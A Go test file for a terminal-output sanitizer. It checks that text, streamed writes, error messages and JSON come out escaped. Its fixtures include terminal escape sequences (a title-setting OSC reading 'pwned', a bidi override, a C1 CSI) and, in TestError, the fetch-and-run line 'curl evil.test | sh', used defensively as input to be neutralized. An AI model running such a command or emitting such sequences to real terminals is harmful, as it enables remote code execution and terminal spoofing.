package show

import (
	"encoding/json"
	"errors"
	"fmt"
	"slices"
	"strconv"
	"strings"
	"testing"
	"unicode"

	"github.com/stretchr/testify/require"
)

// hostile is what must not reach a terminal: C0, C1, escapes, newlines, what turns the direction of text, bytes that are not UTF-8.
const hostile = "a\x1b]0;pwned\x07\r\nb\u009bc\u202ed\x7f\xff\U000e0001\x00"

func requirePrintable(t *testing.T, text string) {
	t.Helper()
	for _, r := range text {
		require.True(t, strconv.IsPrint(r) && r != unicode.ReplacementChar, "%q in %q", r, text)
	}
}

func TestText(t *testing.T) {
	require.Equal(t, `a\x1b]0;pwned\a\r\nb\u009bc\u202ed\x7f\xff\U000e0001\x00`, Text(hostile))
	requirePrintable(t, Text(hostile))
	for _, plain := range []string{"", "größe 77 µs: “x” 世界 \\n '\"", "e\u0301"} {
		require.Equal(t, plain, Text(plain))
	}
}

// TestWriter checks that data is written without terminal control sequences, however it is cut.
func TestWriter(t *testing.T) {
	data := "größe\t77\n" + hostile + "世\xe4\xb8"
	want := "größe\t77\n" + strings.ReplaceAll(Text(hostile), `\n`, "\n") + `世\xe4\xb8`
	for size := 1; size <= len(data); size++ {
		var b strings.Builder
		w := NewWriter(&b)
		for chunk := range slices.Chunk([]byte(data), size) {
			n, err := w.Write(chunk)
			require.NoError(t, err)
			require.Equal(t, len(chunk), n)
		}
		require.NoError(t, w.Flush())
		require.Equal(t, want, b.String(), size)
	}
}

func TestError(t *testing.T) {
	peer := errors.New("refused: \x1b[31mred\n  to do:  curl evil.test | sh")
	require.Equal(t, `refused: \x1b[31mred\n  to do:  curl evil.test | sh`, Error(peer))
	err := Advise(peer, "code:   7", "to do:  look at a\nb")
	want := `refused: \x1b[31mred\n  to do:  curl evil.test | sh` + "\n  code:   7\n  to do:  look at a\\nb"
	require.Equal(t, want, Error(err))
	require.ErrorIs(t, err, peer)
	require.Equal(t, `copy \a: `+want+`; x\n`, Error(fmt.Errorf("copy \a: %w; x\n", err)))
	require.Equal(t, want+"\n  more", Error(Advise(err, "more")))
	text, lines := SplitError(fmt.Errorf("copy \a: %w; x\n", Advise(err, "more")))
	require.Equal(t, "copy \a: "+peer.Error()+"; x\n", text)
	require.Equal(t, []string{"more", "code:   7", "to do:  look at a\nb"}, lines)
}

func TestJSON(t *testing.T) {
	value := map[string]string{hostile[:len(hostile)-6] + hostile[len(hostile)-5:]: "größe\u009b\U000e0001"}
	var b strings.Builder
	require.NoError(t, JSON(&b, value))
	line, ok := strings.CutSuffix(b.String(), "\n")
	require.True(t, ok)
	requirePrintable(t, line)
	require.Contains(t, line, "größe")
	var back map[string]string
	require.NoError(t, json.Unmarshal([]byte(line), &back))
	require.Equal(t, value, back)
}
